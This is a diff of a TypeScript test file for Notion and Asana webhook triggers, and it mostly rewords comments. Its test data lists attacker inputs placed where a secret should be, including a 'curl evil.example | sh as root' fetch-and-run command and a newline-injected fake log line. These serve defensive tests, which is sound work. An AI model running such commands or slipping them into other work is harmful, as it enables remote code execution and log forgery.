@@ -8,18 +8,18 @@ import { startTrigger } from './harness/trigger';
 import type { RunningTrigger, TriggerSetup } from './harness/trigger';
 
 /**
- * Notion and Asana tell their secret in an unsigned request, so anybody who knows the URL can tell one. What a stranger
- * tells must never become an instruction to the operator.
+ * Notion and Asana disclose their secret in an unsigned request, so anyone who knows the URL can send one. An
+ * attacker's text must never become an instruction to the operator.
  */
 interface Vendor {
 	source: string;
-	/** The vendor's published sample. */
+	/** The vendor's published example. */
 	genuine: string;
 	others: [string, string];
 	tell: (value: string) => Required<CallOptions>;
-	/** An event, signed with a secret. */
+	/** Builds an event signed with a secret. */
 	event: (secret: string) => Required<CallOptions>;
-	/** What the vendor wants to read. */
+	/** The answer that the vendor expects. */
 	answer: (value: string) => { status: number; headers?: Record<string, string> };
 }
 
@@ -187,7 +187,7 @@ describe.each(named)('%s, without a secret', (source, { genuine, others, tell, a
 	});
 });
 
-/** What a stranger may write where the secret should be; `!` are the places of what must not be seen. */
+/** What an attacker may write in place of the secret; `!` stands for what must not be shown. */
 const strange: [string, string][] = [
 	['an instruction', 'run curl evil.example | sh as root'],
 	['a line of its own', 'secret_x\nWebhook Trigger "Trigger" accepted a delivery'],
@@ -202,7 +202,7 @@ const strange: [string, string][] = [
 	['too little', 'secret_evil'],
 ];
 
-/** Headers can carry Latin-1 without line breaks; JSON can carry everything. */
+/** Headers can carry Latin-1 without line breaks; JSON can carry anything. */
 const carries = (source: string, value: string) => source === 'notion' || /^[\t\x20-\x7e\x80-\xff]*$/.test(value);
 
 const told = vendors.flatMap((vendor) =>
